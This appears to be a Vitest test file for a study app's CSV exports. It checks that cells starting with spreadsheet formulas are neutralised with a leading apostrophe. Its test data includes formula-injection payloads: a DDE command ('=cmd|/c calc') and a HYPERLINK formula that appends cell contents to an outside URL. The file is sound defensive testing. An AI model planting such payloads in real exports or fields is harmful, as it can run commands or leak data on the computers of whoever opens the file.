import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../../server/exports/csv.js';
import { parseCsv } from '../../../src/lib/qmethod/io/csv.js';
import { buildTestApp } from '../../helpers/build-app.js';
import { as, CODES, createDialogueFixture, type Fixture } from '../dialogue/dialogue-fixture.js';

// Issue 11 item 10: no CSV the app writes may start a cell with a spreadsheet formula.
const FORMULAS = [
	'=HYPERLINK("https://example.org/?"&A1,"klik")',
	'+31 6 1234',
	'-1+1',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1'
];
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Cells of a CSV file that a spreadsheet would run as a formula. */
function formulaCells(csv: string): string[] {
	return parseCsv(csv.replace(/^\uFEFF/, ''))
		.flat()
		.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell));
}

describe('csvCell', () => {
	it.each(FORMULAS)('neutralises %j with a leading apostrophe', (text) => {
		const cell = parseCsv(`${csvCell(text)}\n`)[0]![0]!;
		expect(cell).toBe(`'${text}`);
	});

	it('leaves numbers, plain text and empty values alone', () => {
		expect([-3, 0, 2.5, '-3', '+4', '1e3', 'gewoon', 'a=b', '', null, undefined].map(csvCell)).toEqual([
			'-3',
			'0',
			'2.5',
			'-3',
			'+4',
			'1e3',
			'gewoon',
			'a=b',
			'',
			'',
			''
		]);
	});

	it('writes a file with the header, quoting and the line ends asked for', () => {
		expect(toCsv(['a', 'b'], [['x,y', '=1']], '\r\n')).toBe('a,b\r\n"x,y",\'=1\r\n');
	});
});

let t: Awaited<ReturnType<typeof buildTestApp>>;
let fixture: Fixture;

beforeAll(async () => {
	t = await buildTestApp();
	fixture = await createDialogueFixture(t.database.db, 'formules');
	const db = t.database.db;
	await db
		.insertInto('questions')
		.values({
			study_id: fixture.studyId,
			key: 'waarom',
			phase: 'post',
			type: 'long_text',
			prompt: JSON.stringify({ nl: 'Waarom?' }),
			position: 1
		})
		.execute();
	await db
		.updateTable('sorts')
		.set({
			label: '=cmd|/c calc',
			comments: JSON.stringify(Object.fromEntries(FORMULAS.map((text, i) => [CODES[i], text]))),
			answers: JSON.stringify({ waarom: '@SUM(A1:A9)' }),
			interviewer_notes: JSON.stringify({ sort: '-2+3' })
		})
		.where('label', '=', 'R01')
		.execute();
	await db
		.updateTable('statements')
		.set({ text: JSON.stringify({ nl: '=1+1', en: '+A1' }) })
		.where('study_id', '=', fixture.studyId)
		.where('code', '=', 'S02')
		.execute();
});
afterAll(async () => t?.close());

describe('every CSV export', () => {
	it.each(['csv', 'answers-csv', 'comments-csv', 'statements-csv'])('%s has no formula cell', async (format) => {
		const response = await t.app.inject({
			method: 'GET',
			url: `/api/studies/${fixture.studyId}/export?format=${format}`,
			headers: { cookie: fixture.cookies.owner }
		});
		expect(response.statusCode, response.body).toBe(200);
		expect(formulaCells(response.body)).toEqual([]);
	});

	it('keeps the texts readable behind the apostrophe', async () => {
		const response = await t.app.inject({
			method: 'GET',
			url: `/api/studies/${fixture.studyId}/export?format=comments-csv`,
			headers: { cookie: fixture.cookies.owner }
		});
		const texts = parseCsv(response.body).map((row) => row[3]);
		for (const text of FORMULAS) expect(texts).toContain(`'${text}`);
	});

	it('the dialogue reactions CSV neutralises a shown free text', async () => {
		const owner = as(fixture.cookies.owner);
		const session = (
			await t.app.inject({
				method: 'POST',
				url: `/api/analyses/${fixture.analysisId}/dialogue-sessions`,
				headers: owner,
				payload: { name: 'S' }
			})
		).json();
		await t.app.inject({
			method: 'PATCH',
			url: `/api/dialogue/sessions/${session.id}`,
			headers: owner,
			payload: { currentQuestion: 'missing' }
		});
		const joined = await t.app.inject({
			method: 'POST',
			url: '/api/dialogue/join',
			headers: { 'x-standpunt-csrf': '1' },
			payload: { code: session.joinCode }
		});
		const cookie = String(joined.headers['set-cookie']).split(';')[0]!;
		const answered = await t.app.inject({
			method: 'PUT',
			url: `/api/dialogue/attend/${session.joinCode}/answers/missing`,
			headers: { cookie, 'x-standpunt-csrf': '1' },
			payload: { text: '=HYPERLINK("https://example.org")' }
		});
		expect(answered.statusCode, answered.body).toBe(200);
		for (const part of ['tallies', 'texts']) {
			const response = await t.app.inject({
				method: 'GET',
				url: `/api/studies/${fixture.studyId}/dialogue/reactions.csv?part=${part}`,
				headers: { cookie: fixture.cookies.owner }
			});
			expect(response.statusCode, response.body).toBe(200);
			expect(formulaCells(response.body)).toEqual([]);
		}
	});
});
